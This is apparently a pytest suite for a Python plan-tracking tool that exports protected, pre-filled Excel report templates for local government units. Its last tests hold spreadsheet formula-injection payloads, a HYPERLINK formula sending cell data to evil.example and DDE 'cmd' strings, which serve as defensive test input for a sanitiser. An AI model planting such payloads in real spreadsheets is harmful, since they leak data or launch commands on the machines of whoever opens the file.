"""Report templates: one XLSX per unit, pre-filled, protected, matched back by a hidden sheet."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine

from plan_tracker.inbox.safety import FORMULA_TRIGGERS, neutralise
from plan_tracker.inbox.template import TemplateError, write_templates
from plan_tracker.services.plans import apply_plan

from .conftest import AS_OF, PLAN_ID, PLAN_YAML, TODAY

HEADERS = ["任务编号", "任务名称", "期间", "完成时限", "亮灯", "状态", "进度(%)", "情况说明", "佐证材料链接", "报送日期"]


def rows_of(path: Path) -> list[tuple]:
    sheet = openpyxl.load_workbook(path)["反馈表"]
    return [r[:5] for r in sheet.iter_rows(min_row=4, values_only=True)]


def test_one_template_per_unit_lists_its_open_obligations_in_plan_order(templates: dict[str, Path]) -> None:
    assert sorted(templates) == ["legal-office", "town-a", "town-b"]
    assert templates["town-a"].name == f"{PLAN_ID}-town-a-{AS_OF.isoformat()}.xlsx"
    # Q1 training is overdue on 2018-05-02, Q2 is running; Q3 and Q4 have not started.
    # Q1 is due 5 working days after 03-31: 04-02, 03, 04, then Qingming (04-05..07 off),
    # 04-08 (a working Sunday), 04-09. Q2: 07-02..07-06.
    assert rows_of(templates["town-a"]) == [
        ("cap.training", "对执法队伍进行轮训", "2018-Q1", dt.datetime(2018, 4, 9), "红灯"),
        ("cap.training", "对执法队伍进行轮训", "2018-Q2", dt.datetime(2018, 7, 6), "绿灯"),
        ("cap.self-check", "报送自查报告", "once", dt.datetime(2018, 6, 29), "绿灯"),
    ]
    assert [r[0] for r in rows_of(templates["legal-office"])] == ["cap.study-plan"]


def test_a_template_has_chinese_headers_indicator_columns_and_an_identity_row(templates: dict[str, Path]) -> None:
    sheet = openpyxl.load_workbook(templates["town-a"])["反馈表"]
    assert [c.value for c in sheet[3]] == [*HEADERS, "参训人次(人次)", "评查案卷数(件)"]
    assert [c.value for c in sheet[2]][:8] == ["计划编号", PLAN_ID, "单位编号", "town-a", "计划版本", 1,
                                               "亮灯日期", "2018-05-02"]
    assert "川店镇" in sheet["A1"].value


def test_the_status_column_offers_the_four_chinese_statuses_as_a_list(templates: dict[str, Path]) -> None:
    sheet = openpyxl.load_workbook(templates["town-a"])["反馈表"]
    lists = [v for v in sheet.data_validations.dataValidation if v.type == "list"]
    assert len(lists) == 1
    assert lists[0].formula1 == '"未开始,推进中,已完成,受阻"'
    assert str(lists[0].sqref) == "F4:F6"
    whole = next(v for v in sheet.data_validations.dataValidation if v.type == "whole")
    assert (whole.formula1, whole.formula2, str(whole.sqref)) == ("0", "100", "G4:G6")


def test_prefilled_cells_are_protected_and_only_fill_in_cells_are_unlocked(templates: dict[str, Path]) -> None:
    workbook = openpyxl.load_workbook(templates["town-a"])
    sheet = workbook["反馈表"]
    assert sheet.protection.sheet is True
    assert workbook.security.lockStructure is True
    for letter in "ABCDE":  # task id, title, period, due, light
        assert sheet[f"{letter}4"].protection.locked is True
    for letter in "FGHIJ":  # status, progress, note, evidence, date
        assert sheet[f"{letter}4"].protection.locked is False
    # Row 4 is training (indicator 参训人次 in K); row 6 is the self-check (评查案卷数 in L).
    assert (sheet["K4"].protection.locked, sheet["L4"].protection.locked) == (False, True)
    assert (sheet["K6"].protection.locked, sheet["L6"].protection.locked) == (True, False)


def test_a_hidden_meta_sheet_names_plan_unit_version_and_dates(templates: dict[str, Path]) -> None:
    workbook = openpyxl.load_workbook(templates["town-b"])
    meta = workbook["_meta"]
    assert meta.sheet_state == "hidden"
    assert dict(meta.iter_rows(values_only=True)) == {
        "format": "plan-tracker/report-template/1", "plan": PLAN_ID, "unit": "town-b", "plan_version": 1,
        "as_of": "2018-05-02", "generated_on": "2018-05-02", "sheet": "反馈表", "header_row": 3}


def test_a_period_option_lists_that_period_even_before_it_starts(applied: Engine, tmp_path: Path) -> None:
    files = write_templates(applied, PLAN_ID, as_of=AS_OF, today=TODAY, out_dir=tmp_path / "q3", period="2018-Q3")
    assert {f.unit: f.rows for f in files} == {"town-a": 1, "town-b": 1}
    # Q3 ends on a Sunday; the National Day week (10-01..07) is off, so 5 wd end on 10-12.
    assert rows_of(files[0].path)[0][2:] == ("2018-Q3", dt.datetime(2018, 10, 12), "待开始")


def test_one_unit_only_and_an_unknown_unit_is_refused(applied: Engine, tmp_path: Path) -> None:
    files = write_templates(applied, PLAN_ID, as_of=AS_OF, today=TODAY, out_dir=tmp_path / "one", unit="town-b")
    assert [f.unit for f in files] == ["town-b"]
    with pytest.raises(TemplateError) as caught:
        write_templates(applied, PLAN_ID, as_of=AS_OF, today=TODAY, out_dir=tmp_path / "x", unit="town-z")
    # worded where the reader is known (the CLI, in the plan's locale)
    assert caught.value.key == "template.unknown_unit"
    assert caught.value.render("zh") == "计划“inbox-2018”中没有单位“town-z”"


HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                  "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_formula_like_plan_text_is_exported_as_text_never_as_a_formula(engine: Engine, tmp_path: Path) -> None:
    plan = PLAN_YAML.replace("title: 对执法队伍进行轮训", f"title: '{HOSTILE_TITLES[0]}'")
    plan = plan.replace("title: 报送自查报告", f'title: "{HOSTILE_TITLES[1]}"')
    plan = plan.replace("name: 川店镇", f'name: "{HOSTILE_TITLES[2]}"')
    plan = plan.replace("title: 收件箱测试计划", f'title: "{HOSTILE_TITLES[3]}"')
    path = tmp_path / "hostile-plan.yaml"
    path.write_text(plan, encoding="utf-8")
    apply_plan(engine, path)
    files = write_templates(engine, PLAN_ID, as_of=AS_OF, today=TODAY, out_dir=tmp_path / "out", unit="town-a")
    workbook = openpyxl.load_workbook(files[0].path)  # not data_only: formulas would show as formulas
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (cell.coordinate, cell.value)
    assert "'" + HOSTILE_TITLES[0] in texts
    assert "'" + HOSTILE_TITLES[1] in texts
    assert any(t.startswith("'" + HOSTILE_TITLES[3]) for t in texts)  # the title row, with the unit name


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-5%", "'-5%"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\0x", "'\0x"),
    ("已完成", "已完成"), ("a=b", "a=b"), ("", ""), (-5, -5), (3.5, 3.5), (None, None),
    (dt.date(2018, 1, 1), dt.date(2018, 1, 1)),
])
def test_neutralise_quotes_text_a_spreadsheet_would_run_and_leaves_the_rest(value: object, safe: object) -> None:
    assert neutralise(value) == safe
